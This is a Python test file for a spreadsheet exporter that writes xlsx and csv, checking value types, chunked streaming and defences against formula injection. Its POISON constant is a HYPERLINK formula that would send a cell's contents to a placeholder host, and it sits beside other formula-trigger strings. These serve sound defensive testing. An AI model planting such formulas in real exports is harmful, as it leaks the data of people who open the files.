"""The one spreadsheet writer (aftersales.exports): the streaming xlsx read back with openpyxl, formulas kept as text."""

import csv
import io
from decimal import Decimal

import tablib
from openpyxl import load_workbook

from aftersales.exports import CSV, ROWS_PER_CHUNK, XLSX, csv_lines, restore, stream_xlsx


def read(sheets):
    chunks = list(stream_xlsx(sheets))
    return chunks, load_workbook(io.BytesIO(b"".join(chunks)))


def test_values_read_back_with_their_types_and_the_header_in_bold():
    chunks, book = read(
        [
            ("汇总", [["名称", "数量"], ['<A&B> "引号"', 3], ["空格 ", Decimal("66.7")], ["", None, True]]),
            ("第二页", [["x"]]),
        ]
    )
    assert book.sheetnames == ["汇总", "第二页"]
    sheet = book["汇总"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["名称", "数量", None],
        ['<A&B> "引号"', 3, None],
        ["空格 ", 66.7, None],
        [None, None, True],
    ]
    assert sheet["A1"].font.b and not sheet["A2"].font.b
    assert sheet.column_dimensions["A"].width == 24


def test_characters_xml_cannot_carry_are_dropped():
    _chunks, book = read([("s", [["h"], ["响铃\x07结束\x00"]])])
    assert book["s"]["A2"].value == "响铃结束"


def test_a_long_sheet_goes_out_in_many_chunks():
    rows = [["工单号", "评价"], *([f"T-{index:06d}", index % 4] for index in range(3 * ROWS_PER_CHUNK))]
    chunks, book = read([("明细", iter(rows))])
    assert len(chunks) > 3
    assert book["明细"].max_row == len(rows)
    assert [cell.value for cell in book["明细"][len(rows)]] == rows[-1]


POISON = '=HYPERLINK("http://x/?d="&A2,"点击")'
FORMULAS = [POISON, "@SUM(1+1)", "+1+1", "-1+1", "\tcmd"]


def test_text_like_a_formula_stays_text_in_the_xlsx_and_keeps_its_value():
    _chunks, book = read([("s", [["名称"], *([text] for text in FORMULAS), ["普通"], [-5]])])
    cells = [row[0] for row in book["s"].iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == [*FORMULAS, "普通", -5]
    assert {cell.data_type for cell in cells} == {"s", "n"}  # never "f", a formula
    assert [cell.quotePrefix for cell in cells] == [True] * len(FORMULAS) + [False, False]
    header = book["s"]["A1"]
    assert header.font.b and not header.quotePrefix


def test_a_csv_cell_like_a_formula_gets_a_quote_that_the_import_takes_off_again():
    text = "".join(csv_lines([["名称", "数量"], *([formula, -5] for formula in FORMULAS)]))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [row[0] for row in rows[1:]] == ["'" + formula for formula in FORMULAS]
    assert {row[1] for row in rows[1:]} == {"-5"}  # a number is no formula
    dataset = CSV().create_dataset(text.removeprefix("\ufeff"))
    assert [row[0] for row in dataset] == FORMULAS
    assert restore("'quoted on purpose") == "'quoted on purpose"


def test_import_export_datasets_go_through_the_same_writer():
    dataset = tablib.Dataset([POISON, 3], headers=["名称", "数量"])
    assert CSV().export_data(dataset).splitlines()[1].startswith("\"'=HYPERLINK(")
    book = load_workbook(io.BytesIO(XLSX().export_data(dataset)))
    cell = book.active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (POISON, "s", True)
    assert XLSX().create_dataset(XLSX().export_data(dataset))[0] == (POISON, 3)
